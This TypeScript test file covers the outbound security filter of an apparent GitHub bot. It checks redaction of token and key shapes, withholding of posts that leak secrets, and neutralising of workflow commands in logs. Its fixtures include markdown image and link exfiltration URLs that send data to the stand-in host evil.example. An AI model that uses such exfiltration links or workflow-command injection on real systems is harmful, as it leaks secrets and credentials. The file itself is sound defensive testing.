import { describe, expect, it } from '@jest/globals';
import type { Forge } from '../../src/github/forge.js';
import type { JobReport } from '../../src/github/publish-job-report.js';
import type { RunLog } from '../../src/github/run-log.js';
import { filteredJobReport, filteredLog } from '../../src/security/filtered-reports.js';
import { FILTERED_WRITES, filteredForge } from '../../src/security/filtered-forge.js';
import {
  collectSecrets,
  filterLogText,
  filterOutbound,
  neutraliseExfiltration,
  neutraliseWorkflowCommands,
  redactSecretsAndTokens,
} from '../../src/security/outbound-filter.js';

const RUN_TOKEN = 'plain-run-token-5d2e9a';
const shapes = {
  ghs: 'ghs_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4',
  ghp: 'ghp_' + 'Z'.repeat(36),
  pat: 'github_pat_' + '11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz',
  sk: 'sk-proj-' + 'a1B2c3D4e5F6g7H8i9J0k1L2',
  ant: 'sk-ant-api03-' + 'x'.repeat(30),
  aws: 'AKIA' + 'ABCDEFGHIJKLMNOP',
  slack: 'xoxb-1234567890-abcdefghij',
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  key: '-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----',
};

describe('redaction', () => {
  it('redacts the run secrets, their base64 and Basic-auth forms, and every token shape', () => {
    const b64 = Buffer.from(`x-access-token:${RUN_TOKEN}`).toString('base64');
    const text = `t=${RUN_TOKEN} h=${b64} ${Object.values(shapes).join(' ')}`;
    const out = redactSecretsAndTokens(text, [RUN_TOKEN]);
    expect(out.text).not.toContain(RUN_TOKEN);
    expect(out.text).not.toContain(b64);
    for (const value of Object.values(shapes)) expect(out.text).not.toContain(value);
    expect(out.kinds).toEqual(
      expect.arrayContaining(['run secret', 'GitHub token', 'JWT', 'private key']),
    );
  });

  it('does not over-redact: ordinary words and short values stay', () => {
    const out = redactSecretsAndTokens('Protected branch update failed (true, main)', [
      'true',
      'main',
    ]);
    expect(out.text).toBe('Protected branch update failed (true, main)');
    expect(out.count).toBe(0);
  });

  it('collectSecrets picks tokens and keys, not every env value', () => {
    const secrets = collectSecrets(
      {
        GITHUB_TOKEN: 'ghs_tokentokentoken',
        OPENAI_API_KEY: 'sk-keykeykeykey',
        INPUT_GITHUB_TOKEN: 'input-token-value',
        INPUT_MODEL: 'openai:gpt-4o-mini',
        GITHUB_REPOSITORY: 'octo/repo',
        GITHUB_REF: 'refs/heads/protected',
        HOME: '/home/runner',
      },
      { 'github-token': 'from-inputs-123' },
      ['registered-secret-1'],
    );
    expect(secrets.sort()).toEqual(
      [
        'from-inputs-123',
        'ghs_tokentokentoken',
        'input-token-value',
        'registered-secret-1',
        'sk-keykeykeykey',
      ].sort(),
    );
  });
});

describe('filterOutbound', () => {
  it('withholds a model-authored post with a secret shape, keeping aethr markers', () => {
    const body = `Here is the env: GITHUB_TOKEN=${shapes.ghs}\n\n<!-- aethr:summary workflow=review -->`;
    const out = filterOutbound(body, { secrets: [], what: 'summary comment' });
    expect(out.kind).toBe('withheld');
    expect(out.text).not.toContain(shapes.ghs);
    expect(out.text).toContain('aethr withheld this summary comment');
    expect(out.text).toContain('<!-- aethr:summary workflow=review -->');
  });

  it("redacts instead when told the text is aethr's own", () => {
    const out = filterOutbound(`failed with ${RUN_TOKEN}`, {
      secrets: [RUN_TOKEN],
      onSecret: 'redact',
    });
    expect(out).toMatchObject({ kind: 'sent', text: 'failed with [redacted]', redacted: 1 });
  });

  it('neutralises images and data links to other hosts and raw media tags; keeps GitHub and code', () => {
    const text = [
      '![x](https://evil.example/p.png?d=SECRETDATA)',
      '![ok](https://github.com/user-attachments/assets/abc.png)',
      '![ok2](https://private-user-images.githubusercontent.com/1/a.png?jwt=x)',
      '[click](https://evil.example/c?data=abc) and [docs](https://docs.example/guide)',
      '<img src="https://evil.example/i.png?q=1"> <picture><source srcset="https://e.x/a"></picture>',
      '[ref]: https://evil.example/r?x=1',
      'see https://evil.example/x?leak=1 now',
      '```html\n<img src="https://evil.example/keep-in-code.png?x=1">\n```',
      'inline `<img src="https://evil.example/code.png?x">`',
    ].join('\n');
    const out = neutraliseExfiltration(text).text;
    expect(out).not.toMatch(/!\[x\]\(https:\/\/evil/);
    expect(out).toContain('(image not shown: `evil.example` — x)');
    expect(out).toContain('![ok](https://github.com/user-attachments/assets/abc.png)');
    expect(out).toContain(
      '![ok2](https://private-user-images.githubusercontent.com/1/a.png?jwt=x)',
    );
    expect(out).toContain('click (link removed: `evil.example`)');
    expect(out).toContain('[docs](https://docs.example/guide)');
    expect(out).toContain('&lt;img src="`evil.example`">');
    expect(out).toContain('&lt;picture>&lt;source');
    expect(out).toContain('[ref]: #link-removed');
    expect(out).toContain('see `evil.example` now');
    expect(out).toContain('<img src="https://evil.example/keep-in-code.png?x=1">');
    expect(out).toContain('inline `<img src="https://evil.example/code.png?x">`');
  });

  it('breaks workflow commands at line starts in logs', () => {
    const out = filterLogText(
      `::set-output name=x::y\n  ::add-mask::z\n##[error]x\nok :: fine`,
      [],
    );
    expect(out).not.toMatch(/^\s*::/m);
    expect(out).not.toMatch(/^##\[/m);
    expect(out).toContain('ok :: fine');
    expect(neutraliseWorkflowCommands('::stop-commands::tok')).toBe(':\u200b:stop-commands::tok');
  });
});

describe('decorators', () => {
  it('the Forge decorator filters every body-bearing write and reports withheld ones', async () => {
    const calls: Array<[string, unknown[]]> = [];
    const record =
      (name: string) =>
      async (...args: unknown[]) => {
        calls.push([name, args]);
        return { id: 1, body: '', author: '', authorType: '', htmlUrl: '', number: 1 };
      };
    const inner = new Proxy({} as Forge, {
      get: (_t, p) => (p === 'owner' ? 'o' : record(String(p))),
    });
    const withheld: string[] = [];
    const forge = filteredForge(inner, {
      secrets: [RUN_TOKEN],
      onWithheld: (i) => withheld.push(i.method),
    });
    await forge.createIssueComment(1, `leak ${RUN_TOKEN}`);
    await forge.updateIssueComment(2, '![a](https://evil.example/a.png)');
    await forge.createReview(3, {
      commitId: 'abc',
      body: 'ok',
      comments: [{ path: 'a', line: 1, side: 'RIGHT', body: shapes.aws }],
    });
    await forge.createPull({ title: 't', body: shapes.sk, head: 'h', base: 'b' });
    await forge.updatePull(4, { body: shapes.slack });
    await forge.getPull(5);
    expect(JSON.stringify(calls)).not.toMatch(
      new RegExp([RUN_TOKEN, shapes.aws, shapes.sk, shapes.slack].join('|')),
    );
    expect(JSON.stringify(calls)).not.toContain('](https://evil');
    expect(withheld).toEqual(['createIssueComment', 'createReview', 'createPull', 'updatePull']);
    expect(calls.at(-1)).toEqual(['getPull', [5]]);
    expect(FILTERED_WRITES).toEqual(
      expect.arrayContaining([
        'createIssueComment',
        'updateIssueComment',
        'createReview',
        'createPull',
        'updatePull',
      ]),
    );
  });

  it('the log and job report decorators redact logs, outputs and the job summary', async () => {
    const out: string[] = [];
    const inner: JobReport = {
      notice: (m) => out.push(m),
      warning: (m) => out.push(m),
      setOutput: (n, v) => out.push(`${n}=${v}`),
      setFailed: (m) => out.push(m),
      jobSummary: async (m) => void out.push(m),
    };
    const log: RunLog = {
      info: (m) => out.push(m),
      notice: (m) => out.push(m),
      warning: (m) => out.push(m),
      group: (n, fn) => (out.push(n), fn()),
    };
    const secrets = [RUN_TOKEN];
    const report = filteredJobReport(inner, () => secrets);
    filteredLog(log, () => secrets).info(`::add-mask::${RUN_TOKEN}`);
    report.setOutput('findings-json', JSON.stringify([{ body: shapes.ghp }]));
    secrets.push('late-registered-secret');
    report.setFailed('boom late-registered-secret');
    await report.jobSummary('![x](https://evil.example/x.png?d=1)');
    const all = out.join('\n');
    expect(all).not.toContain(RUN_TOKEN);
    expect(all).not.toContain(shapes.ghp);
    expect(all).not.toContain('late-registered-secret');
    expect(all).not.toMatch(/^::/m);
    expect(all).toContain('image not shown');
  });
});
